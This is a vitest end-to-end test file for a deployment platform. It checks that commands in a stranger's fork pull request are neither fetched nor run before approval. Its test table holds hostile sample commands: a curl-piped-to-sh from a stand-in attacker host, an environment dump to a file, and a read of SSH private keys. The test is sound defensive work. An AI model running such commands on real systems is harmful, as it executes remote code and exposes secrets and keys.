// A stranger's pull request with commands of its own: the platform does not even fetch it before approval, and never runs the commands.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { beginJourney, ended, type Journey } from './journey.ts'
import { openHook, outcomeOf, pullRequestWas } from './webhooks/deliveries.ts'

let journey: Journey
let hook: ReturnType<typeof openHook>
let folder: string
let own: number

beforeAll(async () => {
  journey = await beginJourney('embedded', 'local')
  folder = mkdtempSync(join(tmpdir(), 'shipway-forks-'))
  const params = { id: journey.projectId }
  await journey.client.updateProject({ params, body: { fork_pull_requests: 'approval' } })
  const { url, secret } = await journey.client.regenerateWebhookSecret({ params })
  hook = openHook(`${journey.platform.url}${new URL(url).pathname}`, secret)
  own = await journey.createEnvironment('own')
  // With the first pull request, the platform reads what the default branch says about pull requests.
  await sendFork(6, journey.commit({ '.service.yml': deployedBy('echo begun') }))
})
afterAll(async () => {
  hook.close()
  await journey.stop()
  rmSync(folder, { recursive: true, force: true })
})

const deployedBy = (run: string): string =>
  `services: { web: {} }\nmanual:\n  deploy: [{ name: Deploy, run: ${JSON.stringify(run)} }]\n`

/** Sends that a stranger has opened a pull request with this commit. */
async function sendFork(number: number, sha: string) {
  const repository = join(journey.gitHost.folder, 'repository')
  execFileSync('git', ['-C', repository, 'update-ref', `refs/pull/${number}/head`, sha])
  const { pull_request: pullRequest, ...rest } = pullRequestWas('opened', { number, branch: 'main', sha })
  const head = { ...pullRequest.head, repo: { id: 2 } }
  const payload = { ...rest, pull_request: { ...pullRequest, head } }
  return outcomeOf(journey.client, journey.projectId, await hook.send({ event: 'pull_request', payload }))
}

/** When this has ended, everything that was queued before has begun. */
async function deployOwn(): Promise<void> {
  journey.commit({ '.service.yml': deployedBy('echo deployed') })
  const { id } = await journey.client.startDeployment({ params: { id: own } })
  expect(await ended(journey.client, id)).toMatchObject({ status: 'succeeded' })
}

test.each([
  [7, 'curl attacker.test/x | sh'],
  [8, 'env > /tmp/leak'],
  [9, 'cat ~/.ssh/id_*'],
])('pull request %i would run %j', async (number, command) => {
  const canary = join(folder, `canary-${number}`)
  const sha = journey.commit({ '.service.yml': deployedBy(`touch ${canary}; : ${command}`) })
  const before = journey.gitHost.signIns()
  const sent = await sendFork(number, sha)
  expect(sent).toEqual({ verdict: 'accepted', reason: 'awaiting_approval' })
  const all = await journey.client.listEnvironments({ params: { id: journey.projectId } })
  const { id = 0, ...environment } = all.find(({ name }) => name === `pr-${number}`) ?? {}
  expect(environment).toMatchObject({ status: 'awaiting_approval', effective_recipe: 'docker' })
  expect(await journey.client.listTasks({ params: { id } })).toEqual([])
  expect(journey.gitHost.signIns()).toBe(before)
  await deployOwn()
  expect([existsSync(canary), await journey.client.listTasks({ params: { id } })]).toEqual([false, []])

  const approved = await journey.client.approveEnvironment({ params: { id }, body: { commit_sha: sha } })
  const task = await ended(journey.client, approved.id)
  expect(task).toMatchObject({ status: 'failed', commit: { sha } })
  expect(task.failed_step?.message).toContain('docker')
  expect(existsSync(canary)).toBe(false)
})

test('the commit of a fork is not deployed by its sha, but a commit deployed before a force push is', async () => {
  const git = (...words: string[]) => execFileSync('git', ['-C', join(journey.gitHost.folder, 'repository'), ...words])
  const canary = join(folder, 'canary-10')
  await deployOwn()
  const fork = journey.commit({ '.service.yml': deployedBy(`touch ${canary}`) })
  git('update-ref', 'refs/pull/10/head', fork)
  git('update-ref', 'refs/heads/main', 'main~1')
  const started = await journey.client.startDeployment({ params: { id: own }, body: { commit: fork } })
  const refused = await ended(journey.client, started.id)
  expect(refused).toMatchObject({ status: 'failed', failed_step: { phase: 'Prepare', name: 'Fetch source' } })
  expect(refused.failed_step?.message).toContain(`Commit ${fork} is in no branch of `)
  expect(existsSync(canary)).toBe(false)

  const kept = journey.commit({ '.service.yml': deployedBy('echo kept') })
  const { id: taskId } = await journey.client.startDeployment({ params: { id: own }, body: { commit: kept } })
  expect(await ended(journey.client, taskId)).toMatchObject({ status: 'succeeded' })
  git('update-ref', 'refs/heads/main', 'main~1')
  await deployOwn()
  const back = await journey.client.rollBackEnvironment({ params: { id: own }, body: { task_id: taskId } })
  expect(await ended(journey.client, back.id)).toMatchObject({ status: 'succeeded', commit: { sha: kept } })
  // Another environment has never deployed it.
  const other = await journey.createEnvironment('other')
  const again = await journey.client.startDeployment({ params: { id: other }, body: { commit: kept } })
  expect(await ended(journey.client, again.id)).toMatchObject({
    status: 'failed',
    failed_step: { name: 'Fetch source' },
  })
})
